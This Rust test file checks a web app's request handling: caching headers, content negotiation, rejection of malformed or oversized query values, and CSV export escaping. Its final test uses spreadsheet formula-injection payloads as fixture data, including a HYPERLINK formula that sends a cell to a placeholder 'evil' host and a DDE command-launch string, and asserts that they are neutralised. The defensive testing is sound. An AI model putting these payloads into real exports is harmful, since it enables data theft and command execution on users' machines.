//! What an attacker (or a careless tag) sends: caching and negotiation done right, bytes
//! that are not UTF-8, values too long or too many, commas inside values, and CSV that is
//! safe to open in a spreadsheet.

use serde_json::Value;

use crate::harness::{TestApp, sample};

#[tokio::test]
async fn every_dynamic_answer_varies_on_htmx_and_accept_and_is_revalidated() {
    let app = TestApp::sample().await;
    let id = sample().instances[0].id.clone();
    for path in [
        "/",
        "/instances",
        "/instances?format=json",
        "/indexes?format=csv",
        "/search?q=acme",
        &format!("/instances/{id}"),
        "/nosuch",
        "/instances?page=abc",
    ] {
        let answer = app.get(path).await;
        assert_eq!(answer.headers["cache-control"], "private, no-store", "{path}");
        assert_eq!(answer.headers["vary"], "HX-Request, HX-History-Restore-Request, Accept", "{path}");
    }
    let css = app.get(&polo_assets::url("dist/main.css")).await;
    assert!(
        css.headers["cache-control"].to_str().unwrap().contains("immutable"),
        "assets keep their own caching"
    );
}

#[tokio::test]
async fn accept_is_negotiated_with_media_ranges_and_q_values() {
    let app = TestApp::sample().await;
    for (accept, status, kind) in [
        ("application/json;q=0, text/html", 200, "text/html"),
        ("APPLICATION/JSON", 200, "application/json"),
        ("text/*;q=0.2, application/json;q=0.5", 200, "application/json"),
        ("text/csv;q=0.9, */*;q=0.1", 200, "text/csv"),
        ("*/*", 200, "text/html"),
    ] {
        let answer = app.get_with("/instances", Some(accept)).await;
        assert_eq!(answer.status, status, "{accept}");
        assert!(answer.content_type.starts_with(kind), "{accept}: {}", answer.content_type);
    }
    for accept in ["application/jsonx", "image/png", "*/*;q=0"] {
        let answer = app.get_with("/instances", Some(accept)).await;
        assert_eq!(answer.status, 406, "{accept}");
    }
    // `format` still wins over any Accept.
    assert_eq!(app.get_with("/instances?format=json", Some("image/png")).await.status, 200);
}

#[tokio::test]
async fn bytes_that_are_not_utf8_are_named_not_replaced() {
    let app = TestApp::sample().await;
    for (path, param) in [
        ("/instances?q=%ff%fe&format=json", "q"),
        ("/instances?owner=a%C3&format=json", "owner"),
        ("/search?q=%80&format=json", "q"),
        ("/instances?q=%4&format=json", "q"),
    ] {
        let answer = app.get(path).await;
        assert_eq!(answer.status, 400, "{path}");
        assert_eq!(answer.json()["error"]["param"], param, "{path}");
    }
    for path in ["/instances/%ff%fe", "/indexes/%C3", &format!("/instances/{}", "i".repeat(300))] {
        let answer = app.get_with(path, Some("application/json")).await;
        assert_eq!(answer.status, 404, "{path}: {}", answer.body);
    }
}

#[tokio::test]
async fn values_have_a_length_and_a_count_cap() {
    let app = TestApp::sample().await;
    let long_q = format!("/instances?format=json&q={}", "x".repeat(10_000));
    let answer = app.get(&long_q).await;
    assert_eq!((answer.status, answer.json()["error"]["param"].as_str()), (400, Some("q")));
    assert!(answer.body.len() < 500, "the value is not echoed back");
    let many = format!("/instances?format=json&{}", "account=prod&".repeat(2_000));
    let answer = app.get(&many).await;
    assert_eq!(answer.status, 400);
    let semicolons = format!("/search?q={}", ";".repeat(20_000));
    let answer = app.get(&semicolons).await;
    assert_eq!(answer.status, 400);
    assert!(answer.body.len() < 20_000, "a short error page, not a 3.5 MB echo");
    assert_eq!(app.get("/instances?format=json&page=%2B1").await.status, 400);
    assert_eq!(app.get("/instances?format=json&per_page=+5").await.status, 400);
}

#[tokio::test]
async fn a_value_with_a_comma_can_be_selected_and_none_is_case_insensitive() {
    let mut e = sample();
    e.instances[0].customer = Some("Acme, Inc".into());
    e.instances[1].customer = Some("Acme".into());
    let app = TestApp::spawn(e).await;
    let repeated = app.json("/instances?format=json&customer=Acme%2C+Inc&customer=nosuch").await;
    assert_eq!(repeated["total"], 1);
    assert_eq!(repeated["items"][0]["customer"], "Acme, Inc");
    let escaped = app.json("/instances?format=json&customer=Acme%5C%2C+Inc").await;
    assert_eq!(escaped["total"], 1);
    let one = app.get("/instances?customer=Acme%5C%2C+Inc").await.body;
    assert!(one.contains(r#"<option value="Acme\, Inc" selected>"#), "the select submits the value whole");
    let html = app.get("/instances?customer=Acme%2C+Inc&customer=nosuch").await.body;
    assert!(
        html.contains("customer=Acme%2C+Inc&#38;customer=nosuch"),
        "links keep the values apart: {}",
        html.lines().filter(|l| l.contains("customer=")).take(3).collect::<Vec<_>>().join("\n")
    );
    let lower = app.json("/instances?format=json&owner=(none)").await["total"].clone();
    let upper = app.json("/instances?format=json&owner=(NONE)").await["total"].clone();
    assert_eq!(lower, upper);
    assert!(lower.as_u64().unwrap() > 0);
}

#[tokio::test]
async fn csv_never_carries_a_formula() {
    let mut e = sample();
    let i = &mut e.instances[0];
    i.name = Some("=HYPERLINK(\"https://evil/?\"&A1)".into());
    i.owner = Some("+cmd|' /C calc'!A0".into());
    i.customer = Some("@SUM(1+1)".into());
    i.private_ip = Some("\t=1+1".into());
    i.index = Some("-2+3".into());
    i.tags.clear();
    i.tags.insert("=evil".into(), "x;y=z".into());
    let id = i.id.clone();
    let x = &mut e.indexes[0];
    x.name = "\r=1".into();
    let app = TestApp::spawn(e).await;
    let csv = app.get("/instances?format=csv").await.body;
    let row = csv.lines().find(|l| l.starts_with(&id)).unwrap();
    for safe in ["'=HYPERLINK", "'+cmd", "'@SUM", "'\t=1+1", "'-2+3", "\\=evil=x\\;y\\=z"] {
        assert!(row.contains(safe), "{safe:?} in {row}");
    }
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    for record in reader.records() {
        let record = record.unwrap();
        for cell in &record {
            let first = cell.as_bytes().first().copied();
            assert!(!matches!(first, Some(b'=' | b'+' | b'@' | b'\t' | b'\r')), "{cell:?} starts a formula");
            assert!(!(first == Some(b'-') && cell.parse::<f64>().is_err()), "{cell:?}");
        }
    }
    let indexes = app.get("/indexes?format=csv").await.body;
    assert!(indexes.contains("\"'\r=1\""), "a CR-led cell is neutralized and quoted");
    let json: Value = app.json("/instances?format=json&per_page=500").await;
    assert!(
        json["items"].as_array().unwrap().iter().any(|i| i["name"] == "=HYPERLINK(\"https://evil/?\"&A1)"),
        "JSON keeps values as they are"
    );
}
